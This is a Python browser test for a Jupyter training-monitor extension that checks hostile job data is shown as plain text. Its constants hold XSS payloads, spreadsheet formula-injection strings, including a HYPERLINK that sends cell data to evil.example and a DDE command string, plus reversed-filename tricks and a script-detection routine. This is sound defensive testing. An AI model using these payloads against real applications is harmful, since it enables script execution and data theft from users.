"""Whatever a job is called and says, it is text: no markup, no script, no formula, nothing turned around or torn apart.

The job is written by hand, as a process that wants harm might: the API would refuse half of these words.
"""

from __future__ import annotations

import csv
import re
import subprocess
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Locator, Page, expect

from jupyter_trainlive.kernels.processes import boot_id, start_time
from jupyter_trainlive.protocol.doorbell import Doorbell
from jupyter_trainlive.protocol.jobdir import JobDir, new_job_id, write_json
from jupyter_trainlive.protocol.journal import JournalWriter, append_shared
from jupyter_trainlive.protocol.presence import host

from ..real_server import RealServer
from .conftest import execute, open_notebook, run_all, shoot, write_notebook
from .test_saved_notebooks import export, is_drawn, open_export, save

#: Markup that would run, words that would turn around, keys that would move, and a word that no line can hold.
MARKUP = "<img src=x onerror=\"document.title='hit'\"><script>document.title='hit'</script>"
TURNED = "\u202egnp.exe\u2066"
CONTROLS = "\x00\x07\x1b[2J\x9b\r"
LONG = "W" * 10_000
EVIL = f"{MARKUP} {TURNED} {CONTROLS}"
NAME = f"evil {EVIL} {LONG}"
FORMULA = '=HYPERLINK("http://evil.example/"&A1,"loss")'
MINUS = "-2+3+cmd|' /C calc'!A0"
METRICS = (FORMULA, MINUS, f"{MARKUP} {TURNED}\x00"[:200], "w" * 200, "constructor", "__proto__")
FILE = "<img src=x onerror=alert(1)> \u202egnp.exe \n=cmd"
#: The tabs of a job, with what is on them once all has come.
TABS = {"Curves": "loss", "Log": "link", "Files": "gnp.exe", "Settings": "1 package", "Alerts": "alert <img"}
#: What would turn around the words beside it, or be seen as nothing.
HIDDEN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


class Villain:
    """A training that records itself, all of it lies."""

    def __init__(self, server: RealServer) -> None:
        self.process = subprocess.Popen(["sleep", "600"])
        self.draft = JobDir(server.home / "drafts" / new_job_id())
        self.draft.path.parent.mkdir(exist_ok=True)
        self.draft.create()
        append_shared(self.draft.server_journal, "submitted", name=NAME, job_kind="track")
        append_shared(self.draft.server_journal, "starting", attempt=1)
        pid = self.process.pid
        spawned = {"pid": pid, "start_time": start_time(pid), "boot_id": boot_id(), "host": host()}
        JournalWriter(self.draft.process_journal).append("spawned", attempt=1, **spawned)
        training = JournalWriter(self.draft.training_journal)
        training.append("start", attempt=1)
        training.append("phase", name=EVIL)
        for step in range(1, 30):
            values = {"loss": 5 / step, **dict.fromkeys(METRICS, step)}
            training.append("metrics", step=step, total_steps=40, values=values)
        training.append("checkpoint", step=10, path=f"checkpoints/{MARKUP}")
        training.append("alert", name=EVIL, message=f"alert {EVIL} {LONG}", step=20)
        training.close()
        self.draft.output_log.write_text(f"log {EVIL}\nline {LONG}\n\x1b]8;;javascript:alert(1)\x07link\x1b]8;;\x07\n")
        write_json(self.draft.environment_file, {"packages": {EVIL: LONG}, "python": {"version": EVIL}, "host": EVIL})
        (self.draft.artifacts / MARKUP.replace("/", "")).mkdir(parents=True)
        (self.draft.artifacts / MARKUP.replace("/", "") / FILE).write_text(EVIL)
        common = {"kernel_name": None, "gpus": None, "priority": 0, "keep_kernel": 0.0, "env": {EVIL: LONG}}
        spec = {"kind": "track", "name": NAME, "path": EVIL, "cwd": f"/{LONG}", **common, EVIL: LONG}
        write_json(self.draft.spec_file, {"job_id": self.draft.job_id, **spec})
        self.job_dir = JobDir(server.jobs_dir / self.draft.job_id)
        self.draft.path.rename(self.job_dir.path)
        self.job_id = self.job_dir.job_id

    def raise_alert(self) -> None:
        self._say("alert", name=EVIL, message=f"alarm {EVIL} {LONG}", step=29)

    def fail(self) -> None:
        said = {"error": f"error {EVIL} {LONG}", "hint": f"hint {EVIL} {LONG}", "traceback": f"trace {EVIL}\n{LONG}"}
        self._say("end", status="failed", **said)
        self.stop()
        JournalWriter(self.job_dir.process_journal).append("exited", attempt=1, code=1, signal=None)
        self._ring()

    def stop(self) -> None:
        self.process.kill()
        self.process.wait()

    def _say(self, kind: str, **values: object) -> None:
        journal = JournalWriter(self.job_dir.training_journal)
        journal.append(kind, **values)
        journal.close()
        self._ring()

    def _ring(self) -> None:
        bell = Doorbell(self.job_dir.path.parent, self.job_id)
        bell.ring()
        bell.close()


@pytest.fixture
def villain(lab: RealServer) -> Iterator[Villain]:
    made = Villain(lab)
    yield made
    made.stop()


#: What came from outside as more than text, hides or turns around, or is torn out of its place.
HARM = """(root, hidden) => {
  hidden = new RegExp(hidden)
  const text = node => node.nodeType === 3 && hidden.test(node.data) ? [node.data] : []
  const attribute = ({ name, value }) =>
    /^on/.test(name) || (/^(title|alt|aria-|placeholder)/.test(name) && hidden.test(value)) ? [`${name}=${value}`] : []
  return [root, ...root.querySelectorAll('*')].flatMap(e => [
    ...(e.matches('script, iframe, embed, object, img[src="x"], a[href^="javascript"]') ? [e.outerHTML] : []),
    ...[...e.attributes].flatMap(attribute),
    ...[...e.childNodes].flatMap(text),
  ]).concat(root.scrollWidth > root.clientWidth + 1 ? [`${root.scrollWidth} wide in ${root.clientWidth}`] : [])
}"""


def harmless(root: Locator) -> None:
    assert [harm[:300] for harm in root.evaluate(HARM, HIDDEN.pattern)] == []
    assert "hit" not in root.page.title()


def saved_by(page: Page, button: Locator) -> Path:
    with page.expect_download() as download:
        button.click()
    assert re.fullmatch(r"[\w.-]+", download.value.suggested_filename)
    return download.value.path()


def drawing(file: Path) -> ET.Element:
    """A picture that was saved; raises ParseError where it is no XML."""
    root = ET.fromstring(file.read_text())
    used = {element.tag.rpartition("}")[2] for element in root.iter()}
    assert used <= {"svg", "title", "rect", "path", "text", "g", "circle"}
    names = {name for element in root.iter() for name in element.attrib}
    assert not [name for name in names if name.startswith("on") or "href" in name]
    assert not HIDDEN.search("".join(root.itertext()))
    return root


def formulas(file: Path) -> list[str]:
    """Cells that a spreadsheet would compute; a number is none, whatever its sign."""
    with file.open(newline="") as lines:
        cells = [cell for row in csv.reader(lines) for cell in row]
    return [cell for cell in cells if re.match(r"[=+\-@\t\r]", cell) and not re.fullmatch(r"-?[\d.e+-]+", cell)]


def test_hostile_names_and_words_are_text_on_every_surface(lab: RealServer, page: Page, villain: Villain) -> None:
    dialogs: list[str] = []
    page.context.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    other = lab.submit("import jupyter_trainlive as t\nt.log({'loss': 1.0}, step=1)", name=MARKUP)
    show = f"import jupyter_trainlive as t\nt.get({villain.job_id!r})"
    open_notebook(page, lab, write_notebook(lab, "hostile.ipynb", show))
    execute(page, "trainlive:show-jobs")
    run_all(page)
    widget = page.locator(".jp-OutputArea section.tl:visible")
    expect(widget).to_have_attribute("data-status", "running", timeout=60_000)
    expect(widget.locator("figure")).to_have_count(1 + len(METRICS))
    for tab, words in TABS.items():
        widget.get_by_role("tab", name=tab).click()
        expect(widget.get_by_role("tabpanel", name=tab)).to_contain_text(words)
        shoot(page, f"hostile-{tab.lower()}")
        harmless(widget)
    panel = page.locator(".tl-panel")
    expect(panel.locator(f"[data-job={villain.job_id}]")).to_contain_text("evil <img src=x")
    harmless(panel)

    # What leaves the page.
    widget.get_by_role("tab", name="Curves").click()
    for metric in (MARKUP[:40], FORMULA):
        figure = widget.locator("figure").filter(has_text=metric)
        figure.get_by_role("button", name="Options of").focus()
        page.keyboard.press("Enter")
        picture = drawing(saved_by(page, page.get_by_role("button", name="Save as SVG")))
        assert metric in "".join(picture.itertext())
        page.keyboard.press("Enter")
        assert formulas(saved_by(page, page.get_by_role("button", name="Save as CSV"))) == []
    more = widget.get_by_role("button", name="Charts and axes")
    more.click()
    harmless(widget.get_by_role("group", name="Charts and axes"))
    drawing(saved_by(page, widget.get_by_role("button", name="SVG", exact=True)))
    assert formulas(saved_by(page, widget.get_by_role("button", name="CSV of all points"))) == []
    page.keyboard.press("Escape")

    # Tabs, and what tells of them.
    execute(page, "trainlive:open-job", job_id=villain.job_id)
    expect(page.locator(f"#trainlive-{villain.job_id} section.tl")).to_have_attribute("data-status", "running")
    execute(page, "trainlive:compare", job_ids=[villain.job_id, other])
    comparison = page.locator("section.tl-compare")
    expect(comparison.get_by_role("table")).to_contain_text("Parameters that differ")
    shoot(page, "hostile-comparison")
    harmless(comparison)
    execute(
        page, "trainlive:new-finetune", values={"model_name": EVIL, "dataset_path": f"./{MARKUP} {LONG}", "name": NAME}
    )
    form = page.locator(".tl-form")
    form.get_by_role("button", name="Start training").click()
    expect(form.locator("[aria-invalid]").first).to_be_visible()
    form.get_by_text("The same in Python").click()
    shoot(page, "hostile-form")
    harmless(form)
    execute(page, "running:show-panel")
    running = page.get_by_role("region", name="Training Section")
    expect(running).to_contain_text("evil <img src=x")
    harmless(running)
    harmless(page.locator(".trainlive-status"))

    villain.raise_alert()
    villain.fail()
    toasts = page.locator(".Toastify__toast")
    expect(toasts.filter(has_text="evil")).to_have_count(2, timeout=20_000)
    page.evaluate("job_id => { window.jupyterapp.shell.activateById(`trainlive-${job_id}`) }", villain.job_id)
    failed = page.locator(f"#trainlive-{villain.job_id} section.tl")
    why = failed.locator(".tl-why")
    expect(why).to_contain_text(f"error {MARKUP}")
    assert failed.evaluate("e => e.querySelector('[role=tablist]').getBoundingClientRect().bottom") < 800
    why.get_by_text("Traceback", exact=True).click()
    expect(why.get_by_label("Traceback")).to_contain_text(f"trace {MARKUP}")
    shoot(page, "hostile-failed")
    for surface in (failed, page.locator(".Toastify"), page.locator("#jp-main-dock-panel .lm-TabBar").first):
        harmless(surface)
    harmless(page.locator("#jp-bottom-panel"))

    # The notebook as it is saved and sent on.
    page.evaluate("() => { window.jupyterapp.shell.activateById([...window.jupyterapp.shell.widgets('main')][0].id) }")
    expect(widget).to_have_attribute("data-status", "failed")
    save(page)
    exported = open_export(page, export(lab, "hostile.ipynb"))
    picture = exported.locator(".jp-OutputArea img")
    assert is_drawn(picture)
    shoot(exported, "hostile-exported")
    assert "hit" not in exported.title()
    assert dialogs == []
